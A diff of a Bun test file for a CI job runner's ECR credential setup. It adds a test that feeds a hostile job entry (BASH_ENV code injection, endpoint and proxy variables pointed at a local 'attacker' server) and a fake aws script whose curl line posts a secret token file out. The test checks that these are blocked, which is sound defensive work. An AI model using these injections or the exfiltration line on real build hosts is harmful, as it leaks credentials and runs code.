@@ -1,65 +1,73 @@
 import { describe, expect, test } from "bun:test";
+import { existsSync } from "node:fs";
 import path from "node:path";
 import { tmpdir } from "../src/testing/index.ts";
+import { ecrKeys, startAws } from "./aws-double.ts";
 import { createContainerScene, useTestEngine } from "./containers.ts";
 import { images } from "./engine/images.ts";
 import { openOwnEngine } from "./engine/own-engine.ts";
 import { startRegistry } from "./engine/registry.ts";
-import type { Tester } from "./fixtures.ts";
 import { outline, toEvents } from "./jobs.ts";
 import { base64, jobWith } from "./pull-jobs.ts";
 
 useTestEngine();
 
 const ecrHost = "123456789012.dkr.ecr.eu-test-1.amazonaws.com";
-const ecr = {
-  DOCKER_CREDENTIAL_TYPE: "AWS_ECR",
-  AWS_REGION: "eu-test-1",
-  AWS_ACCESS_KEY_ID: "key",
-  AWS_SECRET_ACCESS_KEY: "job-secret",
-};
+const ecr = { DOCKER_CREDENTIAL_TYPE: "AWS_ECR", AWS_REGION: "eu-test-1", ...ecrKeys };
 
-/** A double of the AWS CLI, which keeps the environment that it sees beside itself. Resolves to its directory. */
-async function writeAws(tester: Tester, password: string): Promise<string> {
-  await tester.write(
-    "bin/aws",
-    [
-      "#!/bin/sh",
-      `env | grep -v -e ^PWD= -e ^SHLVL= -e ^_= | sort >>"$(dirname "$0")/environment"`,
-      `case "$*" in`,
-      "--version) echo aws-cli/2.15.0 Python/3 ;;",
-      "'sts get-caller-identity --query Account --output text') echo 123456789012 ;;",
-      `'ecr get-login-password --region eu-test-1') echo ${password} ;;`,
-      "*) echo unexpected: $* >&2; exit 2 ;;",
-      "esac",
-      "",
-    ].join("\n"),
-    0o755,
-  );
-  return path.join(tester.home, "bin");
-}
+/** An `aws` that does with its variables what Amazon's does, and what its interpreter does. */
+const awsProgram = `#!/bin/bash
+[ -n "$AWS_WEB_IDENTITY_TOKEN_FILE" ] && curl -s --data-binary @"$AWS_WEB_IDENTITY_TOKEN_FILE" "$AWS_ENDPOINT_URL_STS"
+case "$*" in
+--version) echo aws-cli/2.15.0 Python/3 ;;
+sts*) echo 123456789012 ;;
+*) echo a-password ;;
+esac
+`;
 
 describe("credentials of clouds", () => {
-  test("ECR's come from the AWS CLI, which sees the job's variables and none of the agent's", async () => {
+  test("an entry for ECR reads no file, names no address and runs no program of the agent's host", async () => {
     await using scene = await createContainerScene();
-    const bin = await writeAws(scene.tester, "a-password-for-an-hour");
-    const job = jobWith(images.debian, [ecr]);
-    const { outline, exitCode, stdout } = await scene.run(job, [], {
-      env: { PATH: `${bin}:${process.env.PATH}`, AGENT_SECRET: "hidden" },
+    await using aws = startAws({ password: "a-password-for-an-hour", registry: ecrHost });
+    const received: string[] = [];
+    await using attacker = Bun.serve({
+      hostname: "127.0.0.1",
+      port: 0,
+      async fetch(request) {
+        received.push(`${request.url} ${await request.text()}`);
+        return new Response("", { status: 500 });
+      },
     });
-    expect(outline[1]).toContain(
-      "Setting up credentials for ECR\naws ecr get-login-password --region $AWS_REGION | docker login --username AWS --password-stdin 123456789012.dkr.ecr.$AWS_REGION.amazonaws.com\n",
-    );
-    // No such registry can be reached from here.
-    expect(outline[1]).toContain('Registry "123456789012.dkr.ecr.eu-test-1.amazonaws.com" did not answer: ');
+    const { tester } = scene;
+    const program = await tester.write("bin/aws", awsProgram, 0o755);
+    const secret = await tester.write("token-file", "hidden-from-jobs", 0o600);
+    const code = await tester.write("code", `echo run by $(id -u) >>${tester.home}/ran\n`);
+    const address = `http://127.0.0.1:${attacker.port}/`;
+    const hostile = {
+      ...ecr,
+      BASH_ENV: code,
+      PATH: `${path.dirname(program)}:${process.env.PATH}`,
+      AWS_ROLE_ARN: "arn:aws:iam::123456789012:role/x",
+      AWS_WEB_IDENTITY_TOKEN_FILE: secret,
+      AWS_CONFIG_FILE: secret,
+      ...Object.fromEntries(
+        ["AWS_ENDPOINT_URL", "AWS_ENDPOINT_URL_STS", "AWS_ENDPOINT_URL_ECR", "HTTP_PROXY", "HTTPS_PROXY"].map(
+          (name) => [name, address],
+        ),
+      ),
+    };
+    const { outline, exitCode } = await scene.run(jobWith(images.debian, [hostile]), [], {
+      env: { ...aws.env, PATH: `${path.dirname(program)}:${process.env.PATH}` },
+    });
+    expect(received).toEqual([]);
+    expect(existsSync(path.join(tester.home, "ran"))).toBe(false);
+    // The login of the double is valid; its registry cannot be reached from here.
+    expect(outline[1]).toContain(`Registry "${ecrHost}" did not answer: `);
     expect(exitCode).toBe(1);
-    expect(stdout).not.toContain("a-password-for-an-hour");
-    const seen = await Bun.file(path.join(bin, "environment")).text();
-    expect(seen).toContain("AWS_SECRET_ACCESS_KEY=job-secret");
-    expect(seen).not.toContain("AGENT_SECRET");
+    expect(aws.requests.map(({ fault }) => fault)).toEqual([undefined]);
   });
 
-  test("ECR's password pulls an image, and is shown nowhere", async () => {
+  test("ECR's password pulls an image, with the entry's keys and with the instance's role, and is shown nowhere", async () => {
     const password = `pass-${crypto.randomUUID()}`;
     await using registry = await startRegistry({
       user: "AWS",
@@ -67,6 +75,7 @@ describe("credentials of clouds", () => {
       address: "127.88.0.1:80",
       host: ecrHost,
     });
+    await using aws = startAws({ password, registry: ecrHost, hasRole: true });
     await using directory = await tmpdir();
     const hosts = path.join(directory.path, "hosts");
     await Bun.write(hosts, `127.0.0.1 localhost\n127.88.0.1 ${ecrHost}\n`);
@@ -78,18 +87,25 @@ describe("credentials of clouds", () => {
     });
     const { tester, api, host } = engine;
     const image = await registry.push(api, images.small, "test/private:1");
-    const bin = await writeAws(tester, password);
-    const file = await tester.write("job.json", JSON.stringify(jobWith(image, [ecr])));
-    const env = { DOCKER_HOST: host, PATH: `${bin}:${process.env.PATH}` };
-    const { exitCode, stdout } = await tester.run(["run", file, "--json", "--docker-mount-socket=false"], {
-      env,
-    });
-    const lines = outline(toEvents(stdout));
-    expect(lines[1]).toEndWith("\nLogin Succeeded\n");
-    expect(lines[2]).toContain(`Pulled ${image} in `);
-    expect(lines).toContain("[echo it runs] 0: it runs\n");
-    expect(exitCode).toBe(0);
-    expect(stdout).not.toContain(password);
+    const ofRole = { DOCKER_CREDENTIAL_TYPE: "AWS_ECR", AWS_REGION: "eu-test-1" };
+    for (const [entry, calls] of [
+      [ecr, 1],
+      [ofRole, 5],
+    ] as const) {
+      const file = await tester.write("job.json", JSON.stringify(jobWith(image, [entry])));
+      const args = ["run", file, "--json", "--docker-mount-socket=false", "--docker-pull-policy=always"];
+      const { exitCode, stdout } = await tester.run(args, { env: { DOCKER_HOST: host, ...aws.env } });
+      const lines = outline(toEvents(stdout));
+      expect(lines[1]).toEndWith(
+        "Setting up credentials for ECR\naws ecr get-login-password --region $AWS_REGION | docker login --username AWS --password-stdin 123456789012.dkr.ecr.$AWS_REGION.amazonaws.com\nLogin Succeeded\n",
+      );
+      expect(lines[2]).toContain(`Pulled ${image} in `);
+      expect(lines).toContain("[echo it runs] 0: it runs\n");
+      expect(exitCode).toBe(0);
+      expect(stdout).not.toContain(password);
+      expect(aws.requests).toHaveLength(calls);
+      expect(aws.requests.filter(({ fault }) => fault !== undefined)).toEqual([]);
+    }
   });
 
   test("GCR's key goes to its host, as the user _json_key", async () => {
